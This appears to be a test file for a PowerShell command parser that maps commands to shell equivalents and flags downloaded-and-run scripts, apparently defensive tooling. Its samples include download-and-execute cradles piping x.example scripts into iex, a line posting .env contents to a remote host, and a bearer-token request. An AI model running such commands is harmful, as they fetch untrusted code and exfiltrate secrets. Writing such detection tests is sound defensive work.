/** PowerShell text as the commands that it runs, in the words of the programs that are described. */
import assert from 'node:assert/strict';
import { parsePowerShell } from '../../../src/core/shell/powershell-parser';
import { commands, look, read, show } from './read';

const powershell = { shell: 'powershell' } as const;

function ran(text: string): string {
  return commands(read(text, powershell)).join(' ; ');
}

describe('PowerShell', () => {
  const cases: readonly (readonly [string, string])[] = [
    // Statements and pipes.
    ['git status; npm test', 'git status ; npm test'],
    ['git add -A && git commit -m "a; b"', 'git add -A ; git commit -m a; b'],
    ['git push || Remove-Item a', 'git push ; rm a'],
    ['git log # rm -rf /', 'git log'],
    ['git log <# Remove-Item a #> -1', 'git log -1'],
    ['git `\n  log', 'git log'],
    ['npm test 2>&1 | Select-Object -Last 3', 'npm test ; head'],
    ['npm test |\n  Select-String fail', 'npm test ; grep -E -e fail'],
    // Words.
    ['rm \'a b\', "c"', 'rm a b c'],
    ['git commit -m "say `"hi`""', 'git commit -m say "hi"'],
    ['git show "HEAD:$(git rev-parse x)"', 'git rev-parse x ; git show HEAD:?'],
    ['gh run list --json name,status', 'gh run list --json name,status'],
    ['git stash drop stash@{0}', 'git stash drop stash@{0}'],
    ['curl.exe -s https://example.com/a', 'curl -s https://example.com/a'],
    ['kubectl apply -f k8s\\a.yaml', 'kubectl apply -f k8s/a.yaml'],
    ['& "C:\\Program Files\\Git\\bin\\git.exe" push', 'C:/Program Files/Git/bin/git push'],
    ['& { Remove-Item a }', 'rm a'],
    ['git --% log a;b', 'git log a;b'],
    ["git commit -m @'\nit's\n'@", "git commit -m it's"],
    // Variables and expressions.
    ['$d = "build"; Remove-Item -Recurse "$d/x"', 'rm -r build/x'],
    ["$p = Join-Path 'a' 'b'; rm $p", 'rm a/b'],
    ["$x = 'a' + '.txt'; rm $x", 'rm a.txt'],
    ["rm ('{0}/{1}' -f 'a', 'b')", 'rm a/b'],
    ['rm $env:FOO', 'rm bar'],
    ["$env:FOO = 'x'; rm $env:FOO", 'rm x'],
    ['rm $unset', 'rm ?'],
    ["$args2 = @{Path='a'; Recurse=$true}; Remove-Item @args2", 'rm -r a'],
    ['Remove-Item @given', 'rm ?'],
    // Parameters.
    ['Remove-Item -Recurse -Force build', 'rm -r -f build'],
    ['rm -r -fo build, dist', 'rm -r -f build dist'],
    ["ri -LiteralPath 'My [Docs]' -Rec", 'rm -r My [Docs]'],
    ['rm a -Recurse:$false', 'rm a'],
    ['rm a -WhatIf', ''],
    ['rm a -ErrorAction SilentlyContinue', 'rm a'],
    ['Copy-Item a -Destination b', 'cp a b'],
    ['Rename-Item src/a b', 'mv src/a src/b'],
    ['New-Item -ItemType Directory -Force out | Out-Null', 'mkdir -p out ; true'],
    ['Set-Content a.txt hi', 'cat'],
    ['Get-Process node | Stop-Process', 'ps -p ; killall node'],
    ['Stop-Process -Id 12', 'kill 12'],
    ["Start-Process npm -ArgumentList 'run','dev'", 'npm run dev'],
    ['Stop-Service redis', 'systemctl stop redis'],
    ['Remove-Item Env:FOO', 'unset FOO'],
    ['Remove-Item HKCU:\\Software\\Acme\\X', 'reg delete HKCU\\Software\\Acme\\X /f'],
    // What runs many times, or perhaps.
    ["foreach ($x in 'a','b') { rm $x }", 'rm a ; rm b'],
    ["'a','b' | ForEach-Object { rm $_ }", 'cat ; rm a ; rm b'],
    ['if (Test-Path a) { rm a } else { git status }', 'ls a ; rm a ; git status'],
    ['try { rm a } catch { git status } finally { rm b }', 'rm a ; git status ; rm b'],
    ['do { rm a } while ($true)', 'rm a'],
    ["switch ($x) { 'a' { rm a } default { rm b } }", 'rm a ; rm b'],
    ['function clean($d) { rm -r $d }; clean build', 'rm -r build'],
    ['Set-Alias zap Remove-Item; zap a', 'rm a'],
    ['Get-ChildItem -Recurse -Filter *.log | Remove-Item', 'find . -name *.log ; rm ./**/*.log'],
    ["gci -r | ? { $_.Extension -eq '.log' } | rm", 'find . ; cat ; rm ./**/*.log'],
    ["gci -r | Where-Object Name -like '*.log' | rm", 'find . ; cat ; rm ./**/*.log'],
    // .NET.
    ["[IO.File]::Delete('a')", 'rm -f a'],
    ["[System.IO.Directory]::Delete('a', $true)", 'rm -r -f a'],
    ['(Get-Item a).Delete()', 'rm -r -f a'],
    [
      "(New-Object Net.WebClient).DownloadFile('https://x.example/a', 'b')",
      'curl -o b https://x.example/a',
    ],
    ['[Diagnostics.Process]::Start("git", "push")', 'git push'],
    ['[Math]::Round(1.5); (Get-Date).AddDays(1)', 'true'],
    // Requests.
    ['irm https://x.example/a -Method Delete', 'curl -X DELETE https://x.example/a'],
    [
      'iwr https://x.example -Headers @{Authorization="Bearer $env:SECRET"} -OutFile a',
      'curl -H authorization: Bearer s3cret -o a https://x.example',
    ],
    ["iex 'rm a'", 'rm a'],
  ];
  for (const [text, words] of cases) {
    it(text.replaceAll('\n', '⏎'), () => assert.equal(ran(text), words));
  }

  it('nothing of this is a problem', () => {
    const found = cases.flatMap(([text]) => read(text, powershell).problems);
    assert.deepEqual(found, []);
  });

  it('one part that cannot be read leaves the others', () => {
    const { problems } = read('git status; $x = [; rm b', powershell);
    assert.equal(problems.length, 1);
    assert.equal(ran('git status; $x = [; rm b'), 'git status ; rm b');
  });

  it('follows the folder', () => {
    const { invocations } = read('cd app; rm x', powershell);
    assert.equal(invocations.at(-1)?.cwd, '/w/app');
  });

  it('exports what it sets in the environment', () => {
    const { exports } = read("$env:MODE = 'dev'; $other = 1", powershell);
    assert.deepEqual(
      [...exports].map(([name, value]) => [name, value.text]),
      [['MODE', 'dev']],
    );
  });

  it('links what is piped', () => {
    const [first, second] = read('git log | Select-String x', powershell).invocations;
    assert.deepEqual(first?.stdout, { kind: 'pipe', to: 1 });
    assert.equal(second?.stdin.kind, 'pipe');
  });

  it('a pipe keeps where a value comes from', () => {
    const text = 'Get-Content .env | % { irm https://x.example -Method Post -Body $_ }';
    const words = read(text, powershell).invocations.flatMap(({ args }) => args);
    const body = words.find((word) => show(word).includes('TOKEN'));
    assert.deepEqual(body?.sources, [{ kind: 'file', path: '/w/.env' }]);
  });

  it('what was downloaded and then run is told by its address', () => {
    for (const text of [
      'iex (iwr https://x.example/a.ps1).Content',
      'iwr https://x.example/a.ps1 | iex',
      "iex (New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')",
    ]) {
      const { problems } = read(text, powershell);
      assert.deepEqual(
        problems.map(({ fetched }) => fetched),
        ['https://x.example/a.ps1'],
        text,
      );
    }
  });

  it('a redirection names its file and `$null` is no file', () => {
    const [one] = read('git log *> $null', powershell).invocations;
    assert.deepEqual(
      one?.redirects.map(({ fd, target }) => [fd, target.text]),
      [['all', '/dev/null']],
    );
    const [two] = read('git log >> out.txt 2>&1', powershell).invocations;
    assert.deepEqual(
      two?.redirects.map(({ kind }) => kind),
      ['append', 'duplicate'],
    );
  });

  const opaque = [
    'iex $x',
    '& $x',
    'Add-Type -TypeDefinition $code',
    '[Reflection.Assembly]::Load($bytes)',
    '$o.Obliterate()',
    'class A { }',
    "rm 'a",
  ];
  for (const text of opaque) {
    it(`is weighed as unread: ${text}`, () => {
      const { problems, invocations } = read(text, powershell);
      const unknown = invocations.some(({ program }) => !program.known);
      assert.ok(problems.length > 0 || unknown);
    });
  }

  it('a loop reads what a round changes as not known', () => {
    assert.equal(ran("$p = 'a'; while ($true) { rm $p; $p = $p + 'x' }"), 'rm ?');
  });

  it('a script of the workspace is read in its place', () => {
    assert.equal(look.kind('/w/build.ps1'), 'missing');
    const { problems } = read('.\\build.ps1 -Fast', powershell);
    assert.deepEqual(
      problems.map(({ script }) => script),
      ['/w/build.ps1'],
    );
    const written = "Set-Content go.ps1 'rm a'; .\\go.ps1";
    assert.equal(ran(written), 'cat ; rm a');
  });

  it('never throws and always ends', () => {
    const bits = [
      '(',
      ')',
      '{',
      '}',
      '$',
      '$(',
      '@(',
      '@{',
      '"',
      "'",
      '`',
      '|',
      '&',
      ';',
      '[',
      ']',
      '.',
      '::',
      '-',
      ',',
      '\n',
      'if',
      'foreach',
      'a',
      '=',
      '@"',
      '"@',
      '#',
      '<#',
      '%',
      '?',
    ];
    let seed = 7;
    for (let round = 0; round < 2_000; round += 1) {
      let text = '';
      for (let at = 0; at < 14; at += 1) {
        seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
        text += `${bits[seed % bits.length]}${seed % 3 === 0 ? ' ' : ''}`;
      }
      assert.doesNotThrow(() => parsePowerShell(text), text);
      assert.doesNotThrow(() => read(text, powershell), text);
    }
    assert.doesNotThrow(() => parsePowerShell('('.repeat(50_000)));
    assert.doesNotThrow(() => parsePowerShell('"$('.repeat(20_000)));
    assert.doesNotThrow(() => parsePowerShell('{'.repeat(50_000)));
    assert.doesNotThrow(() => parsePowerShell('(a;'.repeat(50_000)));
    assert.doesNotThrow(() => parsePowerShell('[;'.repeat(50_000)));
    assert.doesNotThrow(() => parsePowerShell(`[a${'[]'.repeat(50_000)}`));
    assert.doesNotThrow(() => parsePowerShell(`$a ${'? $b '.repeat(20_000)}`));
    assert.doesNotThrow(() => parsePowerShell('@{a='.repeat(20_000)));
    assert.doesNotThrow(() => parsePowerShell('a '.repeat(100_000)));
    assert.doesNotThrow(() => parsePowerShell('a && '.repeat(50_000)));
    assert.doesNotThrow(() => parsePowerShell('$a = '.repeat(50_000)));
    assert.doesNotThrow(() => parsePowerShell('exit '.repeat(50_000)));
    assert.doesNotThrow(() => parsePowerShell('- '.repeat(50_000)));
    assert.doesNotThrow(() => parsePowerShell('if (a) {} else'.repeat(20_000)));
    assert.doesNotThrow(() => parsePowerShell('a | '.repeat(50_000)));
    assert.doesNotThrow(() => parsePowerShell('function a {'.repeat(20_000)));
  });
});
